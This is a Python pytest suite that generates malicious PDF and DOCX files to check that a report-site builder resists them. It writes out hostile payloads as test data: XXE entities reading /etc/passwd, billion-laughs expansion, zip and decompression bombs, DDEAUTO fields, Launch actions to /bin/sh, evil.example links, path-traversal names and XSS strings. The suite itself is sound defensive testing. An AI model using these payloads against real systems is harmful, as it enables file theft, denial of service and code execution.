"""PDF and Word files made to harm: nothing of them runs, is fetched, unpacks without end or stops the tool with a traceback."""

from __future__ import annotations

import io
import re
import subprocess
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import docx
import pikepdf
import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from PIL import Image

from hostile import active_in, pages_of, png_with_text, run, text_of

SENTENCE = "Twelve wells were dug by the mills in the year."
Harm = Callable[[Path], None]


def _pdf(path: Path, change: Callable[[pikepdf.Pdf], None], content: bytes | None = None, title: str = "") -> None:
    """A page of Helvetica, changed."""
    with pikepdf.new() as pdf:
        font = pdf.make_indirect(
            pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
        )
        text = content or (
            b"BT /F1 24 Tf 50 750 Td (Lakeside Mills Report 2031) Tj ET BT /F1 18 Tf 50 700 Td (Water) Tj ET "
            b"BT /F1 10 Tf 50 670 Td (" + SENTENCE.encode() + b") Tj ET"
        )
        page = pdf.add_blank_page(page_size=(595, 842))
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        page.Contents = pdf.make_stream(text)
        if title:
            with pdf.open_outline() as outline:
                outline.root.append(pikepdf.OutlineItem(title, 0))
        change(pdf)
        pdf.save(path)


def _script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    pdf.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="/bin/sh"))


def _links(pdf: pikepdf.Pdf) -> None:
    acts = (
        pikepdf.Dictionary(S=pikepdf.Name.URI, URI="javascript:alert(1)"),
        pikepdf.Dictionary(S=pikepdf.Name.Launch, F="/bin/sh"),
        pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.example"),
    )
    pdf.pages[0].Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[40, 660, 400, 690], A=act)
            for act in acts
        ]
    )


def _attached(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["../../evil.sh"] = b"#!/bin/sh\n"
    pdf.attachments["report.pdf"] = b"%PDF-1.7\n"


def _loops(pdf: pikepdf.Pdf) -> None:
    """A form that draws itself, a page tree that leads back to its root, an outline that never ends."""
    form = pdf.make_stream(b"/X1 Do BT /F1 10 Tf 50 500 Td (again) Tj ET")
    form.Type, form.Subtype, form.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, pikepdf.Array([0, 0, 595, 842])
    form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X1=form))
    pdf.pages[0].Resources.XObject = pikepdf.Dictionary(X1=form)
    pdf.pages[0].Contents = pdf.make_stream(pdf.pages[0].Contents.read_bytes() + b" /X1 Do")
    item = pdf.make_indirect(
        pikepdf.Dictionary(Title="again", Dest=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]))
    )
    item.Next, item.First, item.Last = item, item, item
    pdf.Root.Outlines = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=item, Last=item, Count=1)
    )


def _bomb(pdf: pikepdf.Pdf) -> None:
    """Streams that unpack to 200 MiB each: a picture and a content of blanks."""
    pixels = pdf.make_stream(bytes(14_000 * 14_000))
    pixels.Type, pixels.Subtype, pixels.Width, pixels.Height = pikepdf.Name.XObject, pikepdf.Name.Image, 14_000, 14_000
    pixels.ColorSpace, pixels.BitsPerComponent = pikepdf.Name.DeviceGray, 8
    pdf.pages[0].Resources.XObject = pikepdf.Dictionary(I1=pixels)
    draw = b" q 300 0 0 300 50 200 cm /I1 Do Q"
    pdf.pages[0].Contents = pdf.make_stream(pdf.pages[0].Contents.read_bytes() + draw + b" " * (200 << 20))


def _nested_forms(pdf: pikepdf.Pdf) -> None:
    """Forms within forms, each drawn ten times: ten to the ninth."""
    inner: pikepdf.Object | None = None
    for _ in range(9):
        form = pdf.make_stream(b"/X1 Do " * 10 if inner is not None else b"0 0 1 1 re f ")
        form.Type, form.Subtype, form.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, pikepdf.Array([0, 0, 595, 842])
        form.Resources = (
            pikepdf.Dictionary(XObject=pikepdf.Dictionary(X1=inner)) if inner is not None else pikepdf.Dictionary()
        )
        inner = form
    pdf.pages[0].Resources.XObject = pikepdf.Dictionary(X1=inner)
    pdf.pages[0].Contents = pdf.make_stream(pdf.pages[0].Contents.read_bytes() + b" /X1 Do")


def _huge_page(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].MediaBox = pikepdf.Array([0, 0, 10**9, 10**9])


def _entity(pdf: pikepdf.Pdf) -> None:
    """Metadata in XML that names a file and multiplies."""
    lol = "".join(f"<!ENTITY l{i} '{f'&l{i - 1};' * 10 if i else 'x'}'>" for i in range(10))
    xml = f"<?xml version='1.0'?><!DOCTYPE x [{lol}<!ENTITY f SYSTEM 'file:///etc/passwd'>]><x>&l9;&f;</x>"
    stream = pdf.make_stream(xml.encode())
    stream.Type, stream.Subtype = pikepdf.Name.Metadata, pikepdf.Name.XML
    pdf.Root.Metadata = stream


PDFS: dict[str, Harm] = {
    "scripts and programs that open with it": lambda path: _pdf(path, _script),
    "links that run": lambda path: _pdf(path, _links),
    "files attached, a PDF among them": lambda path: _pdf(path, _attached),
    "forms and outlines that lead back": lambda path: _pdf(path, _loops),
    "streams that unpack to 400 MiB": lambda path: _pdf(path, _bomb),
    "forms within forms": lambda path: _pdf(path, _nested_forms),
    "a page a billion points wide": lambda path: _pdf(path, _huge_page),
    "metadata with entities": lambda path: _pdf(path, _entity),
    "an outline's title that is markup": lambda path: _pdf(
        path, lambda _: None, title="</title><script>alert(1)</script>"
    ),
    "an outline's title with direction marks": lambda path: _pdf(path, lambda _: None, title="Wa\u202eter\u2066\0"),
    "a title that is a template": lambda path: _pdf(
        path, lambda pdf: pdf.docinfo.__setitem__("/Title", "{{ 7*7 }}<script>")
    ),
}


def _docx(path: Path, change: Callable[[docx.document.Document], None] = lambda _: None) -> None:
    document = docx.Document()
    document.add_heading("Lakeside Mills Report 2031", 0)
    document.add_heading("Water", 1)
    document.add_paragraph(SENTENCE)
    change(document)
    document.save(str(path))


def _repacked(path: Path, change: Callable[[str, bytes], bytes], more: dict[str, bytes] | None = None) -> None:
    _docx(path)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {**parts, **(more or {})}.items():
            archive.writestr(name, change(name, data))


def _with_doctype(declared: str, said: str) -> Harm:
    def change(name: str, data: bytes) -> bytes:
        if name != "word/document.xml":
            return data
        head, _, body = data.partition(b"?>")
        return (
            head
            + b"?>"
            + f"<!DOCTYPE x [{declared}]>".encode()
            + body.replace(SENTENCE.encode(), SENTENCE.encode() + said.encode())
        )

    return lambda path: _repacked(path, change)


def _xml_in_body(xml: str) -> Harm:
    def change(document: docx.document.Document) -> None:
        document.element.body.insert(-1, parse_xml(f"<w:p {nsdecls('w')}>{xml}</w:p>"))

    return lambda path: _docx(path, change)


def _table_with(attribute: str, value: str) -> Harm:
    def change(document: docx.document.Document) -> None:
        table = document.add_table(2, 2)
        for cell in (cell for row in table.rows for cell in row.cells):
            cell.text = "12"
        properties = table.cell(0, 0)._tc.get_or_add_tcPr()
        properties.append(parse_xml(f'<w:{attribute} {nsdecls("w")} w:val="{value}"/>'))

    return lambda path: _docx(path, change)


def _pictured(data: bytes) -> Harm:
    """A picture's bytes exchanged for others."""

    def make(path: Path) -> None:
        image = io.BytesIO()
        Image.radial_gradient("L").save(image, "PNG")
        _docx(path, lambda document: document.add_picture(io.BytesIO(image.getvalue())))
        with zipfile.ZipFile(path) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        with zipfile.ZipFile(path, "w") as archive:
            for name, held in parts.items():
                archive.writestr(name, data if name.startswith("word/media/") else held)

    return make


def _linked_picture(path: Path) -> None:
    """A picture that lies on another host, and one that lies on the disk."""

    def change(document: docx.document.Document) -> None:
        image = io.BytesIO()
        Image.radial_gradient("L").save(image, "PNG")
        for target in ("http://evil.example/x.png", "file:///etc/passwd"):
            document.add_picture(io.BytesIO(image.getvalue()))
            blip = list(document.element.body.iter(qn("a:blip")))[-1]
            blip.set(
                qn("r:embed"),
                document.part.relate_to(
                    target,
                    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
                    is_external=True,
                ),
            )

    _docx(path, change)


def _styled(value: str) -> Harm:
    return _xml_in_body(f'<w:pPr><w:outlineLvl w:val="{value}"/></w:pPr><w:r><w:t>Deep water</w:t></w:r>')


def _deep(path: Path) -> None:
    depth = 3_000

    def change(name: str, data: bytes) -> bytes:
        deep = b"<w:sdt><w:sdtContent>" * depth + b"<w:p/>" + b"</w:sdtContent></w:sdt>" * depth
        return data.replace(b"<w:sectPr", deep + b"<w:sectPr", 1) if name == "word/document.xml" else data

    _repacked(path, change)


def _lying_zip(path: Path) -> None:
    """An entry that says it is small and unpacks to 600 MiB."""
    _repacked(path, lambda _, data: data, {"word/media/bomb.bin": bytes(600 << 20)})
    data = path.read_bytes()
    size = (600 << 20).to_bytes(4, "little")
    path.write_bytes(data.replace(size, (100).to_bytes(4, "little")))


LOL = "".join(f"<!ENTITY l{i} '{f'&l{i - 1};' * 10 if i else 'x'}'>" for i in range(10))
WORDS: dict[str, Harm] = {
    "an entity that names a file": _with_doctype("<!ENTITY f SYSTEM 'file:///etc/passwd'>", "&f;"),
    "entities that multiply": _with_doctype(LOL, "&l9;"),
    "a bomb of 600 MiB": lambda path: _repacked(path, lambda _, data: data, {"word/media/bomb.bin": bytes(600 << 20)}),
    "a bomb that says it is small": _lying_zip,
    "a field that includes a file": _xml_in_body(
        '<w:r><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText></w:r><w:r><w:t>Field</w:t></w:r>'
    ),
    "a field that runs a program": _xml_in_body(
        '<w:fldSimple w:instr="DDEAUTO c:\\\\x"><w:r><w:t>Field</w:t></w:r></w:fldSimple>'
    ),
    "text that is markup": _xml_in_body(
        "<w:r><w:t>&lt;script&gt;alert(1)&lt;/script&gt; {{ 7*7 }} ![x](file:///etc/passwd) &lt;iframe src=//evil.example&gt;</w:t></w:r>"
    ),
    "text that our own marks are made of": _xml_in_body(
        "<w:r><w:t>&lt;table&gt;&lt;tr&gt;&lt;td&gt;x &lt;!-- page break --&gt; # no heading</w:t></w:r>"
    ),
    "PostScript for a picture": _pictured(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 90 90\n{} loop\n"),
    "a picture that unpacks to 400 MiB": _pictured(png_with_text(400 << 20)),
    "HTML for a picture": _pictured(b"<html><script>alert(1)</script></html>"),
    "pictures elsewhere": _linked_picture,
    "a cell that spans a billion columns": _table_with("gridSpan", "1000000000"),
    "a cell that spans a word": _table_with("gridSpan", "all"),
    "a cell that spans less than nothing": _table_with("gridSpan", "-5"),
    "a merge that there isn't": _table_with("vMerge", "nonsense"),
    "an outline level that is a word": _styled("high"),
    "an outline level below nothing": _styled("-3"),
    "elements 6000 deep": _deep,
    "part names that lead out": lambda path: _repacked(
        path, lambda _, data: data, {"../../../tmp/hostile.txt": b"x", "/etc/hostile": b"x"}
    ),
    "XML that breaks off": lambda path: _repacked(
        path, lambda name, data: data[:200] if name == "word/document.xml" else data
    ),
    "no document within": lambda path: _repacked(path, lambda name, data: b"" if name == "word/document.xml" else data),
    "styles that break off": lambda path: _repacked(
        path, lambda name, data: data[:99] if name == "word/styles.xml" else data
    ),
    "relations that break off": lambda path: _repacked(
        path, lambda name, data: data[:99] if name.endswith("document.xml.rels") else data
    ),
}


LARGE = re.compile(r"MiB|a bomb")
"""Of a size that the audit alone tries."""


def _tried(found: Mapping[str, Harm]) -> list[Any]:
    marks = {True: [pytest.mark.audit], False: []}
    return [pytest.param(name, marks=marks[bool(LARGE.search(name))]) for name in sorted(found)]


@pytest.mark.slow
@pytest.mark.parametrize("name", _tried(PDFS))
def test_a_hostile_pdf(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """By our own reading: the second witness has a time and a memory of its own, and is only asked."""
    monkeypatch.setattr("report_site.source.intake.witness.java", lambda: None)
    PDFS[name](tmp_path / "in.pdf")
    _require_harmless(tmp_path, "in.pdf")


@pytest.mark.slow
@pytest.mark.parametrize("name", _tried(WORDS))
def test_a_hostile_word_file(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def start(*args: object, **kwargs: object) -> None:
        raise AssertionError("a picture started a program")

    WORDS[name](tmp_path / "in.docx")
    monkeypatch.setattr(subprocess, "Popen", start)
    _require_harmless(tmp_path, "in.docx")


def _require_harmless(root: Path, file: str) -> None:
    """A site that shows the sentence and in which nothing acts; else one clear line, and nothing written."""
    before = sorted(path.name for path in root.iterdir())
    started = run(root, f"new OUT --source ROOT/{file}")
    if started.exit_code == 2:
        assert all(line.startswith("error: ") and " — " in line for line in started.stderr.splitlines()), started.output
        assert "report this as a bug" not in started.output
        assert sorted(path.name for path in root.iterdir()) == before
        return
    assert started.exit_code == 0, started.output
    built = run(root, "build --no-copies --report OUT --site SITE")
    assert built.exit_code == 0, built.output
    trees = pages_of(root / "site")
    assert not [found for tree in trees.values() for found in active_in(tree)]
    assert SENTENCE in text_of(trees)
    held = "".join(path.read_text("utf-8", "ignore") for path in (root / "site").rglob("*.html"))
    assert "root:x:" not in held
    assert not [char for char in "\u202e\u2066\0" if char in held]
    assert not list(root.rglob("evil.sh"))
